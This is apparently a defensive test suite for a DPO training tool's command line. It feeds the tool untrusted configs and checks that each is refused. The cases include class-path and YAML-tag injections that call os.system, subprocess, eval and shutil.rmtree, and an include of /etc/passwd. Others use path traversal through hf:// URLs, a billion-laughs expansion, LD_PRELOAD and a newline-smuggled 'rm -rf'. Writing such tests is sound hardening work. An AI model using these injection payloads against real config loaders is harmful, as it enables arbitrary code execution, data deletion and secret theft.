"""Configs from somebody else: classes, YAML, paths."""

from __future__ import annotations

import os
from pathlib import Path

from support.cases import Case, fit, flags, overlay


def optimizer(path: str, args: str = "") -> str:
    """A config whose optimizer is a class or function."""
    return f"model: {{init_args: {{optimizer: {{class_path: {path}, init_args: {{{args}}}}}}}}}"


def callback(path: str, args: str = "") -> str:
    """A config with one callback."""
    return f"trainer: {{callbacks: [{{class_path: {path}, init_args: {{{args}}}}}]}}"


def logger(path: str, args: str = "") -> str:
    """A config with one logger."""
    return f"trainer: {{logger: {{class_path: {path}, init_args: {{{args}}}}}}}"


NESTED = (
    "argv: [fit, --allow-class-path, subprocess, --model.optimizer, "
    "{class_path: subprocess.getoutput, init_args: {cmd: touch outside/canary}}]"
)


def evil_module(place: Path) -> list[str]:
    """A config that names a module beside it."""
    (place / "evilmod.py").write_text("open('outside/canary', 'w')\n\nclass X:\n    pass\n")
    (place / "over.yaml").write_text(optimizer("evilmod.X"))
    return fit("--config=over.yaml")


def pipe_config(place: Path) -> list[str]:
    """A config that is a pipe."""
    os.mkfifo(place / "pipe.yaml")
    return fit("--config=pipe.yaml")


def linked_config(place: Path) -> list[str]:
    """A config that is a link to itself."""
    (place / "loop.yaml").symlink_to("loop.yaml")
    return fit("--config=loop.yaml")


def linked_run(place: Path) -> list[str]:
    """An output folder that is a link to a folder of somebody else's files."""
    (place / "run").symlink_to("outside")
    return fit()


def big_config(place: Path) -> list[str]:
    """A config of holes, larger than the memory."""
    (place / "big.yaml").touch()
    os.truncate(place / "big.yaml", 6 << 30)
    return fit("--config=big.yaml")


def way_up(place: Path) -> list[str]:
    """A config that names a folder beside the user's own."""
    (place / "over.yaml").write_text("output_dir: outside/../run")
    return [arg for arg in fit("--config=over.yaml") if not arg.startswith("--output_dir")]


def laughing_part(place: Path) -> list[str]:
    """A config whose trainer is another file, which is far larger than it looks."""
    (place / "part.yaml").write_text(LAUGHS.replace("i: ", "callbacks: "))
    (place / "over.yaml").write_text("trainer: {callbacks: part.yaml}")
    return fit("--config=over.yaml")


def circular_part(place: Path) -> list[str]:
    """A config whose callbacks are a file that names itself."""
    (place / "part.yaml").write_text("[part.yaml]")
    return fit("--trainer.callbacks=part.yaml")


LAUGHS = "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{b}: &{b} [{', '.join([f'*{a}'] * 10)}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True)
)

CASES = [
    overlay("main as optimizer", 64, optimizer("dpo_lightning.__main__.main", NESTED)),
    overlay("a function of ours", 64, optimizer("dpo_lightning.new_folder.empty", "path: outside")),
    overlay("shutil.rmtree", 64, optimizer("shutil.rmtree", "path: outside")),
    overlay("os.system", 64, optimizer("os.system", "command: touch outside/canary")),
    overlay("subprocess", 64, optimizer("subprocess.Popen", "args: [touch, outside/canary]")),
    overlay("eval", 64, optimizer("builtins.eval", "source: open('outside/canary', 'w')")),
    overlay("torch.hub", 64, optimizer("torch.hub.load", "repo_or_dir: evil/repo, model: x")),
    overlay("importlib", 64, optimizer("importlib.import_module", "name: antigravity")),
    overlay("a module reached through ours", 64, optimizer("dpo_lightning.cli.yaml.unsafe_load", "stream: x")),
    overlay("os through torch.optim", 64, optimizer("torch.optim.optimizer.os.system", "command: touch x")),
    overlay("a lambda", 64, callback("lightning.pytorch.callbacks.LambdaCallback", "on_fit_start: os.abort")),
    overlay("a lambda of rmtree", 64,
            callback("lightning.pytorch.callbacks.LambdaCallback", "on_fit_start: shutil.rmtree")),
    overlay("a class of transformers", 64, callback("transformers.AutoModel", "pretrained_model_name_or_path: x")),
    overlay("yaml itself", 64, optimizer("yaml.unsafe_load")),
    overlay("a class in a list of policies", 64, "model: {init_args: {policy: {class_path: os.system}}}"),
    overlay("a class where a text is due", 64,
            "model: {init_args: {policy: {path: {class_path: os.system, init_args: {command: id}}}}}"),
    overlay("a class in the data", 64, "data: {class_path: subprocess.Popen, init_args: {args: [id]}}"),
    overlay("a class as a model", 64, "model: {class_path: builtins.exec, init_args: {source: x}}"),
    overlay("a class as a collator", 64, "data: {init_args: {collator: {class_path: os.abort}}}"),
    overlay("a class as a strategy", 64, "trainer: {strategy: {class_path: os.abort}}"),
    overlay("a class as a plugin", 64, "trainer: {plugins: [{class_path: os.abort}]}"),
    overlay("a class as a profiler", 64, "trainer: {profiler: {class_path: os.abort}}"),
    Case("a module beside the config", evil_module, 64),
    overlay("a python tag", 64, "model: !!python/object/apply:os.system ['touch outside/canary']"),
    overlay("a python name", 64, "model: !!python/name:os.system"),
    overlay("a python module", 64, "trainer: !!python/module:antigravity"),
    overlay("a tag of one's own", 64, "model: !include /etc/passwd"),
    overlay("a binary value", 64, "output_dir: !!binary aGVsbG8="),
    overlay("a set", 64, "trainer: !!set {a, b}"),
    overlay("an ordered map", 64, "trainer: !!omap [max_steps: 3]"),
    overlay("an anchor in itself", 64, "a: &a [*a]"),
    overlay("a mapping in itself", 64, "trainer: &a {callbacks: [*a]}"),
    overlay("a billion laughs", 64, LAUGHS),
    overlay("nested 5,000 deep", 64, "trainer: " + "[" * 5000 + "]" * 5000),
    overlay("nested mappings", 64, "".join(f"{' ' * k}a:\n" for k in range(3000))),
    overlay("a huge number", 64, "seed_everything: " + "9" * 100_000),
    overlay("a number in base 60", 64, "seed_everything: " + ":".join(["59"] * 20_000)),
    overlay("two documents", 64, "trainer: {max_steps: 1}\n---\ntrainer: {max_steps: 2}"),
    overlay("a directive", 64, "%YAML 9.9\n---\ntrainer: {max_steps: 1}"),
    overlay("a config in UTF-16", 64, "trainer: {max_steps: 1}".encode("utf-16")),
    overlay("a NUL", 64, b"trainer: {max_steps: 1}\0"),
    overlay("bytes that are no text", 64, b"trainer: \xff\xfe\xfa"),
    overlay("a PNG", 64, b"\x89PNG\r\n\x1a\n" + bytes(range(256))),
    overlay("an ESC in a value", 64, 'output_dir: "a\\e[2Jb"'),
    overlay("an ESC in a key", 64, '"a\\e[2Jb": 1'),
    overlay("a direction mark in a key", 64, '"a\\u202eb": 1'),
    overlay("a list in place of a mapping", 64, "- trainer"),
    overlay("an empty config", 64, ""),
    overlay("the environment", 64, "env: {LD_PRELOAD: outside/x.so}"),
    overlay("trust_remote_code", 64, "model: {init_args: {policy: {trust_remote_code: true}}}"),
    overlay("allow-class-path in a file", 64, "allow-class-path: os"),
    overlay("allow_class_path in a file", 64, "allow_class_path: [os]"),
    overlay("a config in a config", 64, "config: outside/important.txt"),
    overlay("fresh in a file", 0, "fresh: true", "--trainer.max_steps=1"),
    overlay("a checkpoint by URL", 64, "ckpt_path: http://127.0.0.1:1/x.ckpt"),
    overlay("a checkpoint in S3", 64, "ckpt_path: s3://evil/x.ckpt"),
    overlay("a data file by URL", 64, "data: {init_args: {train: http://127.0.0.1:1/x.jsonl}}"),
    overlay("data from the hub that leaves it", 64, "data: {init_args: {train: hf://../../etc}}"),
    overlay("data from the hub by dots", 64, "data: {init_args: {train: hf://a/../../etc/passwd}}"),
    overlay("a checkpoint over a file", 64,
            callback("lightning.pytorch.callbacks.ModelCheckpoint", "dirpath: outside, filename: important")),
    overlay("a checkpoint's name", 64,
            callback("lightning.pytorch.callbacks.ModelCheckpoint", "filename: ../../outside/x")),
    overlay("a log outside", 64, logger("lightning.pytorch.loggers.CSVLogger", "save_dir: outside")),
    overlay("a log by a variable", 64, logger("TensorBoardLogger", "save_dir: run, name: $HOME"),
            twin="logger"),
    overlay("a log by a home", 64, logger("TensorBoardLogger", "save_dir: ~/x"), twin="logger"),
    overlay("a profile outside", 64, "trainer: {profiler: {class_path: SimpleProfiler, "
            "init_args: {dirpath: outside, filename: x}}}"),
    overlay("a reference outside", 64, "model: {init_args: {reference: {class_path: Precomputed, "
            "init_args: {path: outside/x.safetensors}}}}"),
    overlay("a cache outside", 64, "data: {init_args: {cache: outside}}"),
    overlay("root outside", 64, "trainer: {default_root_dir: outside}"),
    overlay("a template that is a device", 66, "data: {init_args: {chat_template: /dev/zero}}"),
    overlay("a template that is a secret", 67, "data: {init_args: {chat_template: home/important.txt}}", stage="S1"),
    Case("a config that is a pipe", pipe_config, 66),
    Case("a config that links to itself", linked_config, 66),
    Case("a config of 6 GB", big_config, 64),
    Case("an output folder that is a link", linked_run, 73),
    flags("a config that is a device", 66, "--config=/dev/zero"),
    flags("a config that is a folder", 66, "--config=home"),
    flags("a config by URL", 66, "--config=http://127.0.0.1:1/x.yaml"),
    flags("a config by fsspec", 66, "--config=memory://x.yaml"),
    flags("a config in zip", 66, "--config=zip://x.yaml::http://127.0.0.1:1/x.zip"),
    flags("a variable in the output folder", 64, "--output_dir=$HOME/run"),
    flags("a variable in braces", 64, "--output_dir=${HOME}/run"),
    flags("a home in the output folder", 64, "--output_dir=~/run"),
    flags("a URL as output folder", 64, "--output_dir=s3://bucket/run"),
    flags("an ESC in the output folder", 64, "--output_dir=run\x1b[2J"),
    flags("a newline in the output folder", 64, "--output_dir=run\nfix: rm -rf"),
    flags("a direction mark in the output folder", 64, "--output_dir=run\u202egnp"),
    flags("a zero width in the output folder", 64, "--output_dir=run\u200b"),
    flags("an empty output folder", 64, "--output_dir="),
    flags("a device as output folder", 73, "--output_dir=/dev/null/x"),
    flags("a name of 300 letters", 64, "--output_dir=" + "a" * 300),
    flags("a path of 5,000 letters", 64, "--output_dir=" + "a/" * 2500),
    Case("the way up in a config", way_up, 64),
    Case("laughs in a part", laughing_part, 64),
    Case("a part of itself", circular_part, 64),
]  # fmt: skip
